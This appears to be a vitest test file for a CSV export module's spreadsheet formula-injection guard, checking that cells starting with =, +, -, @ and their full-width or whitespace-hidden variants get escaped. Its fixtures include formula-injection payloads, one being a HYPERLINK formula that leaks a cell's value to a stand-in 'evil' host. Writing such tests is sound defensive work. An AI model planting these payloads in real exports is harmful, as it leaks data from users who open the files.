import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { type Column, csvHeader, csvLine, guardFormula } from "#lib/reports/csv.ts";

const COLUMNS: Column<{ text: string | null; count: string | null; flag: boolean }>[] = [
  { header: "text", kind: "text", of: ({ text }) => text },
  { header: "count", kind: "digits", of: ({ count }) => count },
  { header: "flag", kind: "flag", of: ({ flag }) => flag },
];

const read = (body: string): string[][] => parse(body, { bom: true, relax_column_count: false });

describe("a text in a spreadsheet", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+49 30", "'+49 30"],
    ["-2", "'-2"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t'=1"],
    ["\rx", "'\rx"],
    ["  =1", "'  =1"],
    ["\u00A0\u3000=1", "'\u00A0\u3000=1"],
    ["＝1", "'＝1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
    ['safe\n=HYPERLINK("http://evil?"&A1)', 'safe\n\'=HYPERLINK("http://evil?"&A1)'],
    ["safe\r\n=1", "safe\r\n'=1"],
    ["safe\u2028=1", "safe\u2028'=1"],
    ["a;=1", "a;'=1"],
    ["a,=1", "a,'=1"],
    ['a"=1', "a\"'=1"],
    ["\u200B=1", "'\u200B=1"],
    ["\uFEFF=1", "'\uFEFF=1"],
  ])("%j becomes %j", (given, guarded) => {
    expect(guardFormula(given)).toBe(guarded);
  });

  it.each(["a=b", "2026-11-24", "exports/a-b+c@d.csv", "x - y", "", " ", "Łódź", "price: 5"])(
    "%j stays as it is",
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  it("has no formula at the start of any cell that any common separator would make of it", () => {
    const hostile = fc.string({
      unit: fc.constantFrom("=", "+", "-", "@", "＝", "\t", "\r", "\n", ";", ",", '"', "'", " ", "a", "|", "\u2028"),
    });
    fc.assert(
      fc.property(hostile, (text) => {
        for (const cell of guardFormula(text).split(/[\n\r\v\f\u0085\u2028\u2029,;|]/)) {
          expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/u);
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it("loses nothing but what was added", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        expect(guardFormula(text).replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      }),
    );
  });
});

describe("a file", () => {
  it("is UTF-8 with a mark, has CRLF and quotes text but not numbers", () => {
    const body = csvHeader(COLUMNS) + csvLine(COLUMNS, { text: 'a "b"', count: "18446744073709551615", flag: true });
    expect(body).toBe('\uFEFF"text","count","flag"\r\n"a ""b""",18446744073709551615,true\r\n');
  });

  it("tells what is unknown from what is empty", () => {
    expect(csvLine(COLUMNS, { text: null, count: null, flag: false })).toBe(",,false\r\n");
    expect(csvLine(COLUMNS, { text: "", count: "0", flag: false })).toBe('"",0,false\r\n');
  });

  it("does not take a text in a number's place for a number", () => {
    expect(csvLine(COLUMNS, { text: "x", count: "-1", flag: false })).toBe('"x","\'-1",false\r\n');
  });

  it("comes back from a strict parser row by row, whatever the names hold", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" })), (texts) => {
        const body =
          csvHeader(COLUMNS) + texts.map((text) => csvLine(COLUMNS, { text, count: "1", flag: true })).join("");
        expect(read(body).slice(1)).toEqual(texts.map((text) => [guardFormula(text), "1", "true"]));
      }),
    );
  });
});

test("a key of every control character stays in its field", () => {
  const text = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join("");
  expect(read(csvHeader(COLUMNS) + csvLine(COLUMNS, { text, count: null, flag: true }))).toHaveLength(2);
});
